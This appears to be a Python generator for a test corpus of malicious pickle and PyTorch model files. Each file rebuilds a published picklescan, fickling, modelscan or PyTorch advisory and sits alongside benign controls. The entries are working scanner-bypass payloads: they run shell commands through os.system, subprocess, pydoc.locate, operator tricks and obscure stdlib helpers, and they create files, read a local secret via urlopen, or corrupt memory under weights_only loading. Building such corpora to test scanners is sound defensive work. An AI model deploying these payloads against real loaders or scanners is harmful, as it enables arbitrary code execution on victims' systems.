"""The 2025-26 advisories of scripts/gen_scan_advisories.py, each rebuilt from
its description (see docs/scan-corpora.md for where each was read, and
which could not be found). Nothing here runs a payload."""

import io
import struct
import zipfile
import zlib

PS = "https://github.com/mmaitre314/picklescan/security/advisories/"
FK = "https://github.com/trailofbits/fickling/security/advisories/"
MS = "https://github.com/protectai/modelscan/issues/"
ISSUE = "issue 34's one-line description (advisory text not found)"


def torch_zip(pickle_bytes, bad_crc=False, storages=()):
    """A torch.save zip (archive/data.pkl, archive/data/<key> for each (key, bytes) of storages,
    archive/version) holding pickle_bytes."""
    b = io.BytesIO()
    records = [("archive/data.pkl", pickle_bytes)] + [("archive/data/" + k, v) for k, v in storages]
    with zipfile.ZipFile(b, "w", zipfile.ZIP_STORED) as z:
        for name, body in records + [("archive/version", b"3\n")]:
            z.writestr(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), body)  # reproducible bytes
    data = bytearray(b.getvalue())
    if bad_crc:
        crc = struct.pack("<I", zlib.crc32(pickle_bytes))
        bad = struct.pack("<I", zlib.crc32(pickle_bytes) ^ 0xFFFFFFFF)
        assert data.count(crc) == 2  # the local header and the central directory
        data = data.replace(crc, bad)
    return bytes(data)


def wo_tensor_pickle(numel, setitem=None):
    """torch.save's data.pkl of {'w': tensor}, protocol 2 in the opcodes torch's weights_only unpickler
    reads (BINUNICODE, BININT): _rebuild_tensor_v2 of 4 float32 elements over storage '0', declared
    numel elements long; setitem (index, value) adds a SETITEM on the tensor itself."""
    u = lambda x: b"X" + struct.pack("<I", len(x)) + x.encode()  # noqa: E731
    n = lambda v: b"J" + struct.pack("<i", v)  # noqa: E731
    pid = b"(" + u("storage") + b"ctorch\nFloatStorage\n" + u("0") + u("cpu") + n(numel) + b"tQ"
    args = b"(" + pid + n(0) + b"(" + n(4) + b"t(" + n(1) + b"t\x89ccollections\nOrderedDict\n)Rt"
    t = b"ctorch._utils\n_rebuild_tensor_v2\n" + args + b"R"
    if setitem:
        t += n(setitem[0]) + n(setitem[1]) + b"s"
    return b"\x80\x02}(" + u("w") + t + b"u."


FOUR_FLOATS = struct.pack("<4f", 1, 2, 3, 4)


def legacy(*pickles):
    """A torch legacy stream: pickles back to back (magic, protocol, sys_info, object, keys)."""
    return b"".join(pickles)


def entries(h):
    s, op, Raw, sg, gl, call, pk, CMD = (h[k] for k in ("s", "op", "Raw", "sg", "gl", "call", "pk", "CMD"))
    out = []

    def add(name, source, does, data, kind="creates", expected="malicious", loader="pickle", **proof):
        proof.update(kind=kind, loader=loader)
        out.append(dict(file="advisories/" + name, corpus="advisories", upstream=source, expected=expected,
                        does=does, upstream_says="", data=data, proof=proof))

    imp = lambda m: call(gl("builtins", "__import__"), m)  # noqa: E731
    # picklescan
    add("GHSA-vvpj-8cmc-gx39_resolve_name.pkl", PS + "GHSA-vvpj-8cmc-gx39",
        "pkgutil.resolve_name('os:system') returns os.system, which REDUCE calls",
        pk(call(call(sg("pkgutil", "resolve_name"), "os:system"), CMD)))
    add("GHSA-vvpj-8cmc-gx39_resolve_name_dotted.pkl", PS + "GHSA-vvpj-8cmc-gx39",
        "pkgutil.resolve_name('subprocess.getoutput'), called", pk(call(call(sg("pkgutil", "resolve_name"),
                                                                             "subprocess.getoutput"), CMD)))
    add("GHSA-955r-x9j8-7rhh_methodcaller.pkl", PS + "GHSA-955r-x9j8-7rhh",
        "_operator.methodcaller('system', cmd) applied to __import__('os')",
        pk(call(call(sg("_operator", "methodcaller"), "system", CMD), imp("os"))))
    add("GHSA-46h3-79wf-xr6c_attrgetter.pkl", PS + "GHSA-46h3-79wf-xr6c",
        "_operator.attrgetter('system') applied to __import__('os'), then called",
        pk(call(call(call(sg("_operator", "attrgetter"), "system"), imp("os")), CMD)))
    add("GHSA-84r2-jw7c-4r5q_pydoc_locate.pkl", PS + "GHSA-84r2-jw7c-4r5q",
        "operator.methodcaller('system', cmd) applied to pydoc.locate('os')",
        pk(call(call(gl("operator", "methodcaller"), "system", CMD), call(gl("pydoc", "locate"), "os"))))
    add("GHSA-84r2-jw7c-4r5q_locate_function.pkl", PS + "GHSA-84r2-jw7c-4r5q",
        "pydoc.locate('os.system') returns the function itself, which REDUCE calls",
        pk(call(call(gl("pydoc", "locate"), "os.system"), CMD)))
    add("GHSA-9726-w42j-3qjr_fileio.pkl", PS + "GHSA-9726-w42j-3qjr", "_io.FileIO('pwned', 'w') creates a file",
        pk(call(sg("_io", "FileIO"), "pwned", "w")))
    add("GHSA-9726-w42j-3qjr_urlopen.pkl", PS + "GHSA-9726-w42j-3qjr",
        "urllib.request.urlopen('file:secret.txt') opens a local file (any URL: SSRF, exfiltration)",
        pk(call(sg("urllib.request", "urlopen"), "file:secret.txt")), kind="returns", returns="secret.txt")
    code = h["code_object"]
    add("GHSA-9m3x-qqw2-h32h_codetype.pkl", PS + "GHSA-9m3x-qqw2-h32h",
        "types.FunctionType(types.CodeType(...), {}) built and called: arbitrary bytecode",
        pk(call(call(sg("types", "FunctionType"), code(sg("types", "CodeType")), {}))), python=py_version())
    import marshal
    add("GHSA-9m3x-qqw2-h32h_marshal.pkl", PS + "GHSA-9m3x-qqw2-h32h",
        "types.FunctionType(marshal.loads(code), {}) built and called",
        pk(call(call(sg("types", "FunctionType"), call(sg("marshal", "loads"),
                                                       marshal.dumps(compile("open('pwned', 'w')", "<p>", "exec"))),
                     {}))), python=py_version())
    for opn, enc in (("STRING", lambda x: b"S'" + x.encode() + b"'\n"),
                     ("BINSTRING", lambda x: b"T" + struct.pack("<I", len(x)) + x.encode()),
                     ("SHORT_BINSTRING", lambda x: b"U" + bytes([len(x)]) + x.encode())):
        add("GHSA-9gvj-pp9x-gcfr_%s.pkl" % opn, PS + "GHSA-9gvj-pp9x-gcfr",
            "%s operands ('posix', 'system') feeding STACK_GLOBAL, then REDUCE" % opn,
            enc("posix") + enc("system") + b"\x93" + enc(CMD) + b"\x85R.")
    magic = call(gl("builtins", "int"), "1950a86a20f9469cfc6c", 16)
    add("GHSA-97f8-7cmv-76j2_magic_reduce.pt", PS + "GHSA-97f8-7cmv-76j2",
        "legacy torch file whose magic number is int('1950a86a20f9469cfc6c', 16) by REDUCE; the object pickle "
        "calls os.system", legacy(pk(magic, 2), pk(1001, 2), pk({}, 2), pk(call(gl("os", "system"), CMD), 2),
                                  pk([], 2)), loader="torch")
    # CVE-2025-10155/10156/10157 (JFrog: picklescan file type, CRC and submodule bypasses)
    add("CVE-2025-10155_pickle_as_pth.pth", "CVE-2025-10155 (picklescan: a pickle under a PyTorch extension)",
        "a bare pickle named .pth calling subprocess.Popen, which torch.load reads as a legacy file",
        pk(call(gl("subprocess", "Popen"), CMD, 0, None, None, None, None, None, True, True), 2), loader="torch")
    add("CVE-2025-10156_bad_crc.pt", "CVE-2025-10156 (picklescan: zip entries with a wrong CRC)",
        "torch zip whose data.pkl CRC is wrong in both headers: Python's zipfile refuses it, torch.load runs it",
        torch_zip(pk(call(gl("posix", "system"), CMD), 2), bad_crc=True), loader="torch")
    add("CVE-2025-10157_submodule.pkl", "CVE-2025-10157 (picklescan: a blocked module's submodule)",
        "asyncio.unix_events._UnixSubprocessTransport._start({}, cmd, shell=True, ...): asyncio blocked by "
        "name only, its submodule runs the command",
        pk(call(sg("asyncio.unix_events", "_UnixSubprocessTransport._start"), {}, CMD, True, None, None, None, 0)))
    add("CVE-2026-56304_FileHandler.pkl", "CVE-2026-56304 (" + ISSUE + ")",
        "logging.FileHandler('pwned') creates (or appends to) any file", pk(call(sg("logging", "FileHandler"), "pwned")))
    add("CVE-2026-56304_RotatingFileHandler.pkl", "CVE-2026-56304 (" + ISSUE + ")",
        "logging.handlers.RotatingFileHandler('pwned'): the same through a submodule",
        pk(call(sg("logging.handlers", "RotatingFileHandler"), "pwned")))
    # torch CVE-2026-24747 (GHSA-63cw-57p8-fm3p; fixed in torch 2.10 by pytorch PR 170085): the
    # weights_only unpickler trusts a storage's declared size and applies SETITEM to any object
    wo = "https://github.com/pytorch/pytorch/security/advisories/GHSA-63cw-57p8-fm3p (pytorch PR 170085)"
    add("CVE-2026-24747_storage_past_record.pt", wo,
        "storage '0' declared as 65536 float32 (256 KiB) over a 16-byte record: torch < 2.10 makes a storage "
        "of that size over a 16-byte allocation, which its tensors read and write past",
        torch_zip(wo_tensor_pickle(1 << 16), storages=[("0", FOUR_FLOATS)]), kind="inconsistent",
        loader="torch_weights_only")
    add("CVE-2026-24747_setitem_tensor.pt", wo,
        "SETITEM applied to a rebuilt tensor (w[0] = 1234567): torch < 2.10 writes into the tensor while "
        "loading, with weights_only=True",
        torch_zip(wo_tensor_pickle(4, setitem=(0, 1234567)), storages=[("0", FOUR_FLOATS)]), kind="inconsistent",
        loader="torch_weights_only")
    add("benign_torch_zip.pt", "control", "{'w': tensor} over a record of its storage's size (allowed globals only)",
        torch_zip(wo_tensor_pickle(4), storages=[("0", FOUR_FLOATS)]), kind="none", expected="benign",
        loader="torch_weights_only")
    cve = "CVE-2026-56315 (" + ISSUE + ")"
    add("CVE-2026-56315_uuid.pkl", cve, "uuid._get_command_stdout('touch', 'pwned') runs a command",
        pk(call(sg("uuid", "_get_command_stdout"), "touch", "pwned")))
    add("CVE-2026-56315_osx_read_output.pkl", cve, "_osx_support._read_output(cmd) runs a shell command",
        pk(call(sg("_osx_support", "_read_output"), CMD)))
    add("CVE-2026-56315_osx_find_build_tool.pkl", cve,
        "_osx_support._find_build_tool('x; touch pwned'): the tool name is pasted into a shell command",
        pk(call(sg("_osx_support", "_find_build_tool"), "x; " + CMD)))
    add("CVE-2026-56315_aix_read_cmd_output.pkl", cve, "_aix_support._read_cmd_output(cmd) runs a shell command",
        pk(call(sg("_aix_support", "_read_cmd_output"), CMD)), python="3.13")
    add("CVE-2026-56315_imap4_stream.pkl", cve, "imaplib.IMAP4_stream(cmd) runs the command as its connection",
        pk(call(sg("imaplib", "IMAP4_stream"), CMD)))
    add("CVE-2026-56315_pyrepl_pager.pkl", cve, "_pyrepl.pager.pipe_pager('x', cmd) pipes text to a command",
        pk(call(sg("_pyrepl.pager", "pipe_pager"), "x", CMD)), python="3.13")
    # fickling
    add("fickling-GHSA-h4rm-mm56-xf63_getattr_memo.pkl", FK + "GHSA-h4rm-mm56-xf63 (" + ISSUE + ")",
        "getattr(__import__('os'), 'system') with both globals memoized and fetched again by BINGET",
        b"\x80\x04" + op(gl("builtins", "getattr")) + b"\x94" + op(gl("builtins", "__import__")) + b"\x94" +
        b"0h\x01(" + s("os") + b"tR" + s("system") + b"\x86R(" + s(CMD) + b"tR.")
    add("fickling-GHSA-q5qq-mvfm-j35x_spawnv_passfds.pkl", FK + "GHSA-q5qq-mvfm-j35x (" + ISSUE + ")",
        "multiprocessing.util.spawnv_passfds('/bin/sh', ['sh', '-c', cmd], [])",
        pk(call(sg("multiprocessing.util", "spawnv_passfds"), b"/bin/sh", [b"sh", b"-c", CMD.encode()], [])))
    add("fickling-GHSA-q5qq-mvfm-j35x_code_interpreter.pkl", FK + "GHSA-q5qq-mvfm-j35x (" + ISSUE + ")",
        "code.InteractiveInterpreter().runsource(src) by methodcaller on the new object",
        pk(call(call(sg("_operator", "methodcaller"), "runsource", "open('pwned', 'w')"),
                call(sg("code", "InteractiveInterpreter")))))
    sub = "_xxsubinterpreters" if py_version() < "3.13" else "_interpreters"
    add("fickling-GHSA-6ggj-6f2q-f7mx_subinterpreter.pkl", FK + "GHSA-6ggj-6f2q-f7mx (" + ISSUE + ")",
        sub + ".run_string(" + sub + ".create(), src): code run in a new subinterpreter",
        pk(call(sg(sub, "run_string"), call(sg(sub, "create")), "open('pwned', 'w')")), python=py_version())
    # modelscan
    add("modelscan-330_builtins_dict.pkl", MS + "330",
        "numpy.__builtins__ (an allowed module's builtins dict) read by _operator.itemgetter('exec'), called",
        pk(call(call(call(sg("_operator", "itemgetter"), "exec"), sg("numpy", "__builtins__")),
                "open('pwned', 'w')")), needs="numpy")
    add("modelscan-338_collect_env_run.pkl", MS + "338",
        "torch.utils.collect_env.run(cmd) runs a shell command", pk(call(sg("torch.utils.collect_env", "run"), CMD)),
        needs="torch")
    add("modelscan-338_random_os_alias.pkl", MS + "338 (alias variant, issue 34 item 1)",
        "STACK_GLOBAL('random', '_os.system'): random's private alias of os",
        pk(call(sg("random", "_os.system"), CMD)))
    # benign controls: run the same way, they must create nothing
    add("benign_ordereddict.pkl", "control", "an OrderedDict of ints (allowed globals only)",
        pk(call(sg("collections", "OrderedDict"), [(1, 2)])), kind="none", expected="benign")
    add("benign_random_state.pkl", "control", "random.Random() as a dotted-free global: unknown, harmless",
        pk(call(sg("random", "Random"), 5)), kind="none", expected="benign")
    add("benign_dotted_class.pkl", "control",
        "collections.OrderedDict.fromkeys(['a']): a dotted name reaching nothing unsafe",
        pk(call(sg("collections", "OrderedDict.fromkeys"), ["a"])), kind="none", expected="benign")
    return out


def py_version():
    import sys
    return "%d.%d" % sys.version_info[:2]
